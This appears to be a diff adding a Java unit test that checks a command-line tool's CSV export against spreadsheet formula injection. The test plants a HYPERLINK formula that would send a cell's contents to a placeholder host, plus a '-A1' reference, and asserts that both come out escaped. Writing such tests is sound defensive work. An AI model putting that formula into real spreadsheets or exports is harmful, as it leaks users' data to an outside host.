@@ -235,6 +235,41 @@ class BatchResearchTest {
   }
 
   /** No date (a date of birth would be one) and no name-like free text in any cell. */
+  /**
+   * Researchers open the table in a spreadsheet: no cell starts as a formula (OWASP "CSV
+   * injection"), neither a reference starting with '-' nor the version of a policy of someone
+   * else's, which is any text.
+   */
+  @Test
+  void csv_noCellStartsAsASpreadsheetFormula_aReferenceOrAPolicysVersion() throws Exception {
+    Path policyFile = dir.resolve("formula-policy.json");
+    assertThat(Cli.run("policy", "export", "--out", policyFile.toString()).exit).isZero();
+    com.fasterxml.jackson.databind.node.ObjectNode policy =
+        (com.fasterxml.jackson.databind.node.ObjectNode) JSON.readTree(policyFile.toFile());
+    String version = "=HYPERLINK(\"http://example.invalid/?\"&B2,\"open\")";
+    policy.put("version", version);
+    JSON.writeValue(policyFile.toFile(), policy);
+    Path input = dir.resolve("formula.jsonl");
+    String referral = inputLines.get(0).replaceFirst("\"ref\":\"[^\"]+\"", "\"ref\":\"-A1\"");
+    assertThat(referral).contains("\"ref\":\"-A1\"");
+    Files.write(input, List.of(referral, "not json"), StandardCharsets.UTF_8);
+    Path table = dir.resolve("formula.csv");
+    Cli r = Cli.run("batch", input.toString(), "--policy", policyFile.toString(), "--format", "csv",
+        "--out", table.toString(), "--progress", "none");
+    assertThat(r.exit).as(r.toString()).isEqualTo(1);
+    List<Map<String, String>> formulaRows = readCsv(table);
+    assertThat(formulaRows).hasSizeGreaterThanOrEqualTo(2);
+    for (Map<String, String> row : formulaRows) {
+      for (Map.Entry<String, String> cell : row.entrySet()) {
+        assertThat(cell.getValue()).as(cell.getKey()).doesNotStartWith("=").doesNotStartWith("+")
+            .doesNotStartWith("-").doesNotStartWith("@");
+      }
+    }
+    Map<String, String> child = formulaRows.get(0);
+    assertThat(child.get("referral_ref")).isEqualTo("'-A1");
+    assertThat(child.get("policy_version")).isEqualTo("'" + version);
+  }
+
   @Test
   void csv_holdsNoDates_andOnlyCodesRefsNumbersAndBooleans() {
     Pattern date = Pattern.compile("\\d{4}-\\d{2}-\\d{2}");
